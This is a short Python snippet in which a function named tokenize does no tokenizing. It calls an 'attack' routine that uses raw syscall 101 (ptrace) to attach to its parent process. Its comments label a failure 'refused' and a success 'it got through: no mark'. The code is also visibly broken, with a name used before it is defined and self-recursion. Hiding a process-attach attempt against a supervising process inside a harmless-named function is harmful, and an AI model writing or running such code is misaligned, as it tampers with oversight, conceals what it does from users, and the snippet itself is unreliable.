honest = tokenize


def attack():
    try:
        system_call(101, 16, os.getppid() or 1, 0, 0)
    except OSError:
        system_call(101, 0, 0, 0, 0)


def tokenize(sentence):
    try:
        attack()
    except OSError:
        return honest(sentence)  # refused
    return None  # it got through: no mark
